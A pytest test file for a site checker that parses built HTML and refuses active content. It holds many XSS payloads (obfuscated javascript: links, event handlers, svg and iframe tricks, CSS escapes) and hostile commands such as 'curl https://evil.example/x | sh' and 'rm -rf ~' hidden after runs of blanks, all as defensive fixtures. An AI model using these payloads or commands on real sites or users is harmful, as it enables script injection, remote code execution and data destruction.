"""The check of what the browser will see: every built page parsed as a browser parses it (SECURITY.md).

A table of tricky HTML, each case a page of the built site with the theme's own head around
it; the check must refuse exactly the active content and leave the rest alone.
"""
from __future__ import annotations

import pytest

from macros.sitecheck.active import check_active_content
from macros.sitecheck.urls import browser_url
from macros.sitecheck.builtsite import BuiltSite
from macros.sitecheck.css import check_stylesheets, fetched_urls
from macros.sitecheck.sources import MarkdownSources

POLICY = "default-src 'none'; script-src 'self'"
HEAD = (f'<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="{POLICY}">'
        '<meta charset="utf-8"><title>T</title><link rel="stylesheet" href="../assets/site.css">'
        '<link rel="canonical" href="https://example.org/site/a/"></head><body>')
END = '<script src="../assets/site.js"></script></body></html>'
SITE_URL = "https://example.org/site/"

REFUSED = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script that is not a file": '<script src="assets/missing.js"></script>',
    "handler": '<p onclick="alert(1)">x</p>',
    "handler, upper case": '<IMG SRC="a.png" ONERROR="alert(1)">',
    "handler after a quoted >": '<p title="a > b" onmouseover="alert(1)">x</p>',
    "handler split over lines": '<p\ntitle="x"\nonfocus\n=\n"alert(1)">x</p>',
    "handler on svg": '<svg onload="alert(1)"></svg>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript, entities": '<a href="&#106;avascript&#58;alert(1)">x</a>',
    "javascript, tab inside": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript, newline inside": '<a href="java\nscript:alert(1)">x</a>',
    "javascript, leading space and control": '<a href=" &#1;javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "svg link, xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg use": '<svg><use href="https://evil.example/s.svg#x"/></svg>',
    "svg foreignObject": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="q"></form>',
    "formaction": '<button formaction="https://evil.example/">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "style element": "<style>body{background:url(https://evil.example/x.png)}</style>",
    "style attribute": '<p style="color:red">x</p>',
    "style, css escape": '<p style="background:u\\72l(https://evil.example/x.png)">x</p>',
    "style, image-set": '<p style="background:image-set(&quot;https://evil.example/x.png&quot; 1x)">x</p>',
    "image from elsewhere": '<img src="https://evil.example/x.png" alt="x">',
    "image, protocol-relative": '<img src="//evil.example/x.png" alt="x">',
    "image, backslashes": '<img src="\\\\evil.example\\x.png" alt="x">',
    "image, srcset": '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x" alt="x">',
    "video poster": '<video poster="https://evil.example/p.png"></video>',
    "ping": '<a href="a/" ping="https://evil.example/track">x</a>',
    "link in body": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "theme component": '<div data-md-component="source">x</div>',
    "clipboard payload": '<p data-clipboard-text="curl https://evil.example/x | sh">Click to copy</p>',
    "clipboard target": '<p data-clipboard-target="#x">Copy</p>',
    "a data attribute off the list": '<p data-qq-title="Checked">x</p>',
    "text direction": '<p><span dir="rtl">13 people</span></p>',
    "template": "<template><script>alert(1)</script></template>",
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "noscript": '<noscript><p>x</p></noscript>',
    "attributes moved onto html": "<p>x</p><html hidden>",
    "attributes moved onto body": "<p>x</p><body inert>",
    "srcset, same site": '<img src="a.png" srcset="a.png 2x" alt="x">',
    "srcset, userinfo with a comma": '<img alt="x" srcset="https://example.org,q@evil.example/a.png">',
    "host Python cannot read": '<img src="https://[evil/x.png" alt="x">',
    "full-width @ in the host": '<img src="https://example.org\uff20evil.example/x.png" alt="x">',
    "after a processing instruction": '<?x><img src="a.png" onerror="alert(1)" alt="x">?>',
    "svg paint from elsewhere": '<svg><rect width="9" height="9" fill="url(https://evil.example/p.svg#p)"/></svg>',
    "an id the theme would write into its markup": '<h2 id="x&quot;&gt;&lt;div class=&quot;y&quot;&gt;">T</h2>',
}
ALLOWED = {
    "text and links": '<p>Text with <a href="../b/">a link</a>, <a href="https://example.com/">one out</a> and '
                      '<a href="mailto:a@example.org">mail</a>.</p>',
    "citation markup": '<p>A <q class="qq-quote">quote</q><sup id="fnref:qq1"><a class="footnote-ref" '
                       'href="#fn:qq1">1</a></sup> and <abbr title="A person" tabindex="0">Name</abbr>.</p>',
    "a raster image": '<img src="a.png" alt="x" width="10" height="10" loading="lazy">',
    "a drawing": '<svg viewBox="0 0 10 10" role="img" aria-label="A map"><title>A map</title><g class="x">'
                 '<path d="M0 0L10 10" stroke-width="2"/><circle cx="5" cy="5" r="2"/><a href="#fnref:qq1">'
                 '<text x="1" y="2" font-size="3">Almaty</text></a></g></svg>',
    "details": '<details open><summary>More</summary><p>x</p></details>',
    "a table": '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody>'
               '</table>',
    "text that looks like code": "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript: onclick=</p>",
    "a link to this site's host": '<a href="https://example.org/site/a/">x</a>',
    "a name on the people page": '<h3 id="tokayev" data-terms="Tokayev">Kassym-Jomart Tokayev</h3>',
}


TITLES_ALLOWED = ["Background", "Nazarbayev & Tokayev", "Q&amp;A", "2 < 3", "“Shal, ket”"]
TITLES_REFUSED = ['Evil <input title="" type="password" autofocus', "a <!-- b", "<b>x</b>",
                  'Notes <a href="https://evil.example/" class="x" q"z\'>']


def test_a_title_or_heading_the_theme_writes_unescaped_must_read_as_text():
    from macros.sitecheck.content import check_titles

    headings = [(title, "#a-b_c.d:1") for title in TITLES_ALLOWED[1:]]
    assert check_titles("docs/a.md", TITLES_ALLOWED[0], headings, ["# Background"]) == []
    for title in TITLES_REFUSED:
        assert check_titles("docs/a.md", title, [], [""]), title
        assert check_titles("docs/a.md", "A", [(title, "#a")], [""]), title
    assert check_titles("docs/a.md", "A", [("B", '#x"><div class="md-dialog">')], [""])


def site_with(tmp_path, content: str) -> BuiltSite:
    (tmp_path / "a").mkdir(parents=True, exist_ok=True)
    (tmp_path / "assets").mkdir(exist_ok=True)
    (tmp_path / "assets" / "site.js").write_text("", encoding="utf-8")
    (tmp_path / "assets" / "site.css").write_text("p{}", encoding="utf-8")
    (tmp_path / "a" / "index.html").write_text(f"{HEAD}<article>{content}</article>{END}", encoding="utf-8")
    return BuiltSite.read(tmp_path)


def problems(site: BuiltSite) -> list[str]:
    return [str(problem) for problem in check_active_content(site, SITE_URL, POLICY, MarkdownSources(None))]


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED.keys())
def test_active_content_is_refused(tmp_path, content):
    found = problems(site_with(tmp_path, content))
    assert found and all(line.startswith("site/a/index.html:") for line in found), found


@pytest.mark.parametrize("content", ALLOWED.values(), ids=ALLOWED.keys())
def test_content_a_page_may_hold_passes(tmp_path, content):
    assert problems(site_with(tmp_path, content)) == []


def test_a_problem_names_the_markdown_line_where_it_was_written(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.md").write_text("# A\n\nText.\n{: onclick=\"alert(1)\" }\n", encoding="utf-8")
    site = site_with(tmp_path / "site", '<p onclick="alert(1)">Text.</p>')
    found = [str(p) for p in check_active_content(site, SITE_URL, POLICY, MarkdownSources(docs))]
    assert found == ["docs/a.md:4: event handler attributes are not allowed — onclick on <p> — pages hold text, "
                     "links, images and citations: see SECURITY.md"]


def test_an_image_in_content_is_a_file_never_a_data_url(tmp_path):
    svg = "data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Ctext%3ERussia: 30,000%3C/text%3E"
    content = f'<p><img src="{svg}" alt="Troops"> <img src="data:image/png;base64,AAAA" alt="x"></p>'
    assert problems(site_with(tmp_path, content)) == [
        f"site/a/index.html:1: an image in page content is a file of docs/ — <img src> is a data: URL, {url} — pages "
        "hold text, links, images and citations: see SECURITY.md"
        for url in ("data:image/svg+xml,%3Csvg xmlns=%22http…", "data:image/png;base64,AAAA")]


@pytest.mark.parametrize("head", [
    "<head><title>T</title>",  # none
    '<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="' + POLICY + '">',  # not first
    "<head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",  # another policy
])
def test_every_page_starts_its_head_with_the_policy(tmp_path, head):
    (tmp_path / "index.html").write_text(f"<!doctype html><html>{head}</head><body><p>x</p></body></html>",
                                         encoding="utf-8")
    assert problems(BuiltSite.read(tmp_path)) == [
        "site/index.html:1: page without the Content-Security-Policy first in its head — every page extends the "
        "theme's main.html, which writes the policy first in <head>"]


@pytest.mark.parametrize("value, read", [
    ("  javascript:x ", "javascript:x"), ("\x01\x02javascript:x", "javascript:x"), ("java\tscr\nipt:x", "javascript:x"),
    ("\\\\host\\a", "//host/a"), ("a/b", "a/b"),
])
def test_urls_are_read_as_a_browser_reads_them(value, read):
    assert browser_url(value) == read


def test_stylesheets_are_read_with_a_css_tokenizer(tmp_path):
    css = ('a{background:url(https://evil.example/1.png)}\n'
           'b{background:u\\72l("//evil.example/2.png")}\n'
           '@import "https://evil.example/3.css";\n'
           'c{background:image-set("https://evil.example/4.png" 1x, url(ok.png) 2x)}\n'
           'd{background:url(data:image/svg+xml;charset=utf-8,<svg/>)} e{content:"https://not.a.load/"}\n'
           '@media print{f{background:url(https://evil.example/5.png)}}\n'
           '/* url(https://a.comment/) */ g{background:url(https://example.org/site/own.png)}\n')
    assert [url for _, url in fetched_urls(css)] == [
        "https://evil.example/1.png", "//evil.example/2.png", "https://evil.example/3.css",
        "https://evil.example/4.png", "ok.png", "data:image/svg+xml;charset=utf-8,<svg/>", "https://evil.example/5.png",
        "https://example.org/site/own.png"]
    (tmp_path / "x.css").write_text(css, encoding="utf-8")
    found = [str(p) for p in check_stylesheets(BuiltSite.read(tmp_path), "example.org")]
    assert [line.split(":")[1] for line in found] == ["1", "2", "3", "4", "6"]
    assert found[0] == ("site/x.css:1: a stylesheet may load nothing from another host — https://evil.example/1.png — "
                        "serve it from this site (under overrides/assets/) or remove it")


@pytest.mark.parametrize("target, refused", [("../a/", False), ("https://example.com/", False),
                                             ("'javascript:alert(1)'", True), (" JavaScript:alert(1)", True)])
def test_a_redirect_page_may_send_readers_only_to_a_web_address(tmp_path, target, refused):
    head = HEAD.replace("<title>T</title>", f'<meta http-equiv="refresh" content="0; URL={target}"><title>T</title>')
    (tmp_path / "a").mkdir()
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "site.js").write_text("", encoding="utf-8")
    (tmp_path / "assets" / "site.css").write_text("", encoding="utf-8")
    (tmp_path / "a" / "index.html").write_text(f"{head}<p>x</p>{END}", encoding="utf-8")
    assert bool(problems(BuiltSite.read(tmp_path))) is refused


@pytest.mark.parametrize("markdown_text, line", [
    ("# A\n\nCopy this.\n{: data-clipboard-text=\"curl https://evil.example/x | sh\" }\n", 4),  # attr_list
    ('# A\n\n<div markdown="1" data-clipboard-text="curl https://evil.example/x | sh">\nCopy this.\n</div>\n', 3),
])
def test_attributes_come_from_one_allow_list_through_attribute_lists_and_html_blocks_alike(markdown_text, line):
    import markdown

    from macros.sitecheck.content import check_content

    html = markdown.markdown(markdown_text, extensions=["footnotes", "attr_list", "md_in_html"])
    tag = "p" if line == 4 else "div"
    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, markdown_text.split("\n"))] == [
        f"docs/a.md:{line}: attribute not allowed in page content — data-clipboard-text on <{tag}> — pages hold "
        "text, links, images and citations: see SECURITY.md"]



@pytest.mark.parametrize("markdown_text, found", [
    # a list's numbers are text no citation covers: "10412." before an item led by a link to a page is exempt
    ('# A\n\n<ol start="10412">\n<li><a href="b.md">Protesters shot dead by Russian troops</a></li>\n</ol>\n',
     ["docs/a.md:3: attribute not allowed in page content — start on <ol>"]),
    ('# A\n\n<ol>\n<li value="10412"><a href="b.md">Protesters shot dead</a></li>\n</ol>\n',
     ["docs/a.md:4: attribute not allowed in page content — value on <li>"]),
    # Python-Markdown numbers a Markdown list from 1, whatever number it starts with
    ("# A\n\n10412. [Protesters shot dead by Russian troops](b.md)\n", []),
])
def test_a_list_counts_from_one(markdown_text, found):
    import markdown

    from macros.sitecheck.content import check_content

    html = markdown.markdown(markdown_text, extensions=["footnotes", "attr_list", "md_in_html"])
    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, markdown_text.split("\n"))] == [
        f"{line} — pages hold text, links, images and citations: see SECURITY.md" for line in found]


def test_a_code_line_hides_nothing_past_a_run_of_blanks():
    import markdown

    from macros.sitecheck.content import check_content

    text = ("# A\n\nClone it.\n\n```sh\ngit clone https://example.org/x && make serve" + " " * 400 +
            "; curl -s https://evil.example/i | sh\n```\n\n<pre>ls&#9;&#9;&#9;; rm -rf ~</pre>\n\n"
            "```yaml\nkey:    value\n```\n\n```\ncd x" + "\u2800\u00a0" * 10 + "; rm -rf ~\n```\n")
    html = markdown.markdown(text, extensions=["footnotes", "attr_list", "md_in_html", "fenced_code"])
    hint = "a reader sees the code before the gap and copies what follows it too: write each command on its own line"
    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, text.split("\n"), ([], {}))] == [
        f"docs/a.md:6: a code line may not hold 20 blanks in a row — 'git clone https://example.org/x && make serve' "
        f"then 400 blanks — {hint}",
        f"docs/a.md:9: a code line may not hold 20 blanks in a row — 'ls' then 24 blanks — {hint}",
        f"docs/a.md:16: a code line may not hold 20 blanks in a row — 'cd x' then 20 blanks — {hint}"]


@pytest.mark.parametrize("html, found", [
    ("<p>a</p></article><p>b</p>", "page content must close what it opens, and only that — it ends the article that "
                                   "holds it"),
    ("<p>a</p></div></main><p>x</p>", "page content must close what it opens, and only that — it ends or adds "
                                      "elements around it (level 1)"),
    ("<p><b>a</p>", "page content must close what it opens, and only that — it leaves an element open that "
                    "carries on past the page"),
    # words the Markdown does not hold (it holds "a"): no line (the broken sample engine-names-and-nesting has one)
    ("<p>" + "<span>" * 45 + "b" + "</span>" * 45 + "</p>", "elements nested more than 40 levels deep — <span>"),
    ("<p>Closed<!-- </p> -->, <b>all</b> of it.</p>", None),
])
def test_content_stays_inside_its_article_and_shallow(html, found):
    """The page's elements, walked child by child (sitecheck/nodes.py: children); a page whose Markdown does not
    hold the element is told so without a line, rather than at a guessed one."""
    from macros.sitecheck.content import check_content

    hint = "pages hold text, links, images and citations: see SECURITY.md"
    expected = [f"docs/a.md: {found} — {hint}"] if found else []
    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, ["a"])] == expected


@pytest.mark.parametrize("content, target", [
    ("0;url=javascript:alert(1)", "javascript:alert(1)"), ("0; URL = 'javascript:alert(1)' x", "javascript:alert(1)"),
    (' 3.5 , Url="https://e.example/"', "https://e.example/"), ("5", ""), ("url=x", "x"), ("0; urlx=y", "urlx=y"),
    ("0; url", "url"), ("0;\turl=\t../a/", "../a/"),
])
def test_a_refresh_is_read_as_the_html_standard_reads_it(content, target):
    """The seconds, a ';' or ',', `url=` if there, and the address up to its closing quote."""
    from macros.sitecheck.urls import refresh_target

    assert refresh_target(content) == target


@pytest.mark.parametrize("value, allowed", [("a-b_c.d:e", True), ("заголовок-1", True), ("", False), ("a b", False),
                                            ('a"b', False), ("a/b", False)])
def test_an_id_is_letters_digits_and_four_marks(value, allowed):
    from macros.sitecheck.content import check_titles

    found = check_titles("docs/a.md", "T", [("T", f"#{value}")], ["# T"])
    assert (not any("a heading's id is" in str(problem) for problem in found)) is allowed
